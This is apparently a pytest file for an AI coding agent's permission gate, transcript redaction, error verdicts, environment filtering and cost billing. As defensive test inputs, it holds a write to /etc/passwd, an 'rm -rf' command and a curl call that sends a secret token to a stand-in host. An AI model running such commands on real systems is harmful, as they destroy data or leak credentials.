"""The gate, the transcript's updates, verdicts and bills: what needs none of the libraries."""

from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path
from typing import Any

import pytest

from maestro_tui.agents.context import Context
from maestro_tui.agents.desk import Desk
from maestro_tui.agents.drivers.acp.invocation import Invocation
from maestro_tui.agents.drivers.acp.models import pick_model
from maestro_tui.agents.drivers.acp.presets import PRESETS, find_preset
from maestro_tui.agents.drivers.acp.silence import Silence
from maestro_tui.agents.drivers.acp.updates import Call, Updates, counts
from maestro_tui.agents.drivers.acp.verdicts import judge_error, judge_stop
from maestro_tui.agents.drivers.api.cost import Bill
from maestro_tui.agents.drivers.gate import Gate
from maestro_tui.agents.drivers.transcript import Transcript
from maestro_tui.agents.secrets import Redactor
from maestro_tui.agents.spec import read_spec
from tests.agents.attempt_folder import AttemptFolder


def context(attempt: AttemptFolder, **changes: Any) -> Context:
    attempt.spec(driver="acp", **changes)
    found = Context(str(attempt.path))
    found.spec = read_spec(str(attempt.path / "spec.json"))
    return found


def answered(attempt: AttemptFolder, allow: bool, text: str, **changes: Any) -> tuple[Gate, Desk]:
    found = context(attempt, **changes)
    desk = Desk(found)
    subprocess.run(["git", "init", "-q", str(attempt.worktree)], check=True)
    gate = Gate(found, desk, Redactor({"MY_TOKEN": "tell-nobody"}))
    take = found.ask

    def ask(request: str, tool: str, detail: str, **more: Any) -> None:
        take(request, tool, detail, **more)
        asyncio.get_running_loop().call_soon(
            desk.take, {"id": request, "allow": allow, "text": text}
        )

    found.ask = ask  # type: ignore[method-assign]
    return gate, desk


async def test_writes(attempt: AttemptFolder) -> None:
    gate, _ = answered(attempt, False, "no")
    assert await gate.write(["app/a.py"]) == ""
    assert "does not belong" in await gate.write(["app/a.py", "other.py"])
    assert attempt.events("permission") == []
    assert await gate.write(["/etc/passwd"]) == "no"
    assert attempt.events("permission")[0]["rule"] == "Edit(/etc/passwd)"


async def test_commands(attempt: AttemptFolder) -> None:
    gate, _ = answered(attempt, True, "", verify=["make  test"])
    (attempt.worktree / ".gitignore").write_text("build/\n")
    assert await gate.command("make test") == ""
    assert "does not belong" in await gate.command("echo x > other.py")
    assert "does not belong" in await gate.command("touch x", "docs/deep")
    assert attempt.events("permission") == []
    assert await gate.command("rm -rf build") == ""  # git ignores it: only a question
    assert await gate.command("curl http://x/?k=tell-nobody") == ""
    asked = attempt.events("permission")
    assert [e["tool"] for e in asked] == ["Bash", "Bash"]
    assert "tell-nobody" not in str(asked)


async def test_reads(attempt: AttemptFolder) -> None:
    gate, _ = answered(attempt, False, "")
    assert await gate.read("anything/at/all") == ""
    assert await gate.read("../x") == "The operator said no."


def call(**update: Any) -> Call:
    found = Call()
    found.take(update)
    return found


def test_a_call_is_understood() -> None:
    shell = call(kind="execute", rawInput={"command": ["bash", "-lc", "ls -l"], "cwd": "/x"})
    assert (shell.command, shell.folder, shell.name) == ("ls -l", "/x", "Bash")
    assert call(kind="execute", rawInput={"command": ["ls", "a b"]}).command == "ls 'a b'"
    assert call(kind="execute", title="`make test`").command == "make test"
    diff = [{"type": "diff", "path": "/w/a.py", "newText": ""}]
    assert call(kind="edit", content=diff, locations=[{"path": "/w"}]).paths == ["/w/a.py"]
    assert call(kind="edit", locations=[{"path": "/w/b.py"}]).paths == ["/w/b.py"]
    fenced = [{"content": {"type": "text", "text": "```console\nhi\nho\n```"}}]
    assert call(content=fenced).said == "hi\nho"
    assert call(rawOutput={"output": "out"}).said == "out"
    strange = call(kind=7, title=None, content="no", locations={}, rawInput=3)
    assert (strange.command, strange.paths, strange.said) == ("", [], "")


def test_updates_become_the_transcript(attempt: AttemptFolder) -> None:
    wrote: list[str] = []
    transcript = Transcript(context(attempt), Redactor({"MY_TOKEN": "tell-nobody"}), "s")
    updates = Updates(transcript, Silence(transcript.note))
    updates.wrote = wrote.extend

    def say(**update: Any) -> None:
        updates.take({"method": "session/update", "params": {"update": update}})

    for words in ("I ", "look, ", "tell-nobody."):
        say(sessionUpdate="agent_message_chunk", content={"type": "text", "text": words})
    say(sessionUpdate="tool_call", toolCallId="c", kind="edit", title="Write", rawInput={})
    say(sessionUpdate="tool_call_update", toolCallId="c", rawInput={"path": "a.py"})
    say(sessionUpdate="tool_call_update", toolCallId="c", status="in_progress")
    say(sessionUpdate="tool_call_update", toolCallId="c", status="completed", rawOutput="Wrote it")
    say(sessionUpdate="usage_update", cost={"amount": 0.5, "currency": "USD"})
    say(sessionUpdate="usage_update", cost={"amount": 0.75, "currency": "USD"})
    say(sessionUpdate="usage_update", cost={"amount": 99, "currency": "EUR"})
    transcript.turn(counts={"input_tokens": 5})
    transcript.observer.finish([])
    (said,) = attempt.events("text")
    assert said["text"] == "I look, [redacted]."
    assert [e["summary"] for e in attempt.events("tool")] == ["a.py"]
    assert [e["summary"] for e in attempt.events("tool_result")] == ["Wrote it"]
    assert wrote == ["a.py"]
    assert transcript.observer.usage() == {
        "input": 5, "output": 0, "cache_read": 0, "cache_write": 0, "cost_usd": 0.75,
    }  # fmt: skip
    assert b"tell-nobody" not in attempt.log


def test_tokens_of_a_turn() -> None:
    assert counts({"inputTokens": 1, "outputTokens": 2, "cachedReadTokens": None}) == {
        "input_tokens": 1, "output_tokens": 2, "cache_read_input_tokens": 0,
        "cache_creation_input_tokens": 0,
    }  # fmt: skip
    quota = {"quota": {"token_count": {"input_tokens": 7, "output_tokens": 3}}}
    assert counts(None, quota) == {"input_tokens": 7, "output_tokens": 3}
    assert counts(None, {"quota": []}) == {}


@pytest.mark.parametrize(
    ("error", "kind"),
    [
        ((-32000, "Authentication required", None), "fatal"),
        ((-32603, "Internal error", {"details": "API key not valid"}), "fatal"),
        ((429, "slow down", None), "limited"),
        ((-32603, "Internal error", {"error": {"message": "RESOURCE_EXHAUSTED"}}), "limited"),
        ((-32603, "403: quota exceeded", None), "limited"),
        ((-32603, "You've hit your 5-hour limit", None), "limited"),
        ((-32603, "connect ECONNREFUSED 127.0.0.1:9", None), "failed"),
        ((None, "", object()), "failed"),
    ],
)
def test_errors(error: tuple[Any, str, Any], kind: str) -> None:
    verdict = judge_error(*error, "run `x login`")
    found = "fatal" if verdict.fatal else "limited" if verdict.limited else "failed"
    assert found == kind
    assert not verdict.ok
    assert verdict.text


def test_stops() -> None:
    assert judge_stop("end_turn").ok
    assert judge_stop("cancelled").interrupted
    assert not judge_stop("refusal").ok


def test_presets() -> None:
    assert find_preset("/opt/bin/opencode") is PRESETS["opencode"]
    assert find_preset("gemini") is PRESETS["gemini"]
    assert find_preset("nothing") is None


def test_the_agents_environment(attempt: AttemptFolder, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("GEMINI_API_KEY", "ANTHROPIC_API_KEY", "MY_TOKEN", "KEEP_TOKEN"):
        monkeypatch.setenv(name, "secret-value")
    monkeypatch.setenv("IS_SANDBOX", "yes")
    options = {"agent": "gemini", "keep_env": ["KEEP_TOKEN"], "model": "sonnet"}
    invocation = Invocation(context(attempt, options=options).spec, str(attempt.path))
    environment = invocation.environment()
    assert "GEMINI_API_KEY" in environment
    assert "KEEP_TOKEN" in environment
    assert not {"ANTHROPIC_API_KEY", "MY_TOKEN", "IS_SANDBOX"} & set(environment)
    assert "GEMINI_API_KEY" not in invocation.terminal_environment()
    assert "--model" not in invocation.arguments()  # a model of Claude's
    options["model"] = "gemini-3-pro"
    invocation = Invocation(context(attempt, options=options).spec, str(attempt.path))
    assert invocation.arguments()[-2:] == ["--model", "gemini-3-pro"]


def test_models_are_picked() -> None:
    values = [{"name": "G", "options": [{"value": "p/opus-5", "name": "Opus"}]},
              {"value": "p/haiku", "name": "Small"}]  # fmt: skip
    options = [{"id": "x", "category": "mode"}, {"id": "m", "category": "model", "options": values}]
    assert pick_model(options, "opus")[:2] == ("m", "p/opus-5")
    assert pick_model(options, "Small")[:2] == ("m", "p/haiku")
    assert pick_model(options, "gpt") == ("m", "", ["p/opus-5", "p/haiku"])
    assert pick_model([], "gpt") == ("", "", [])


def test_a_bill() -> None:
    price = {"input": 1.0, "output": 10.0, "cache_read": 0.1, "cache_write": 2.0,
             "cache_write_1h": 4.0, "long_prompt": 1000, "long_input": 5.0,
             "long_output": 50.0}  # fmt: skip
    bill = Bill({"m": price})
    usage = {"input_tokens": 100, "output_tokens": 10, "cache_read_input_tokens": 200,
             "cache_creation_input_tokens": 300,
             "cache_creation": {"ephemeral_1h_input_tokens": 100}}  # fmt: skip
    bill.add("m-20261101", usage)
    assert bill.total == pytest.approx((100 + 100 + 20 + 400 + 400) / 1e6)
    bill.add("m", {"input_tokens": 2000, "output_tokens": 10})
    assert bill.total == pytest.approx((1020 + 10_000 + 500) / 1e6)
    assert bill.known
    bill.add("mystery", {"input_tokens": 5})
    assert not bill.known


def test_only_what_is_in_the_worktree_can_be_astray(attempt: AttemptFolder, tmp_path: Path) -> None:
    found = context(attempt)
    gate = Gate(found, Desk(found), Redactor({}))
    root = str(attempt.worktree.resolve())
    assert gate.strays([root, str(tmp_path / "outside"), "app/a.py"]) == [root]
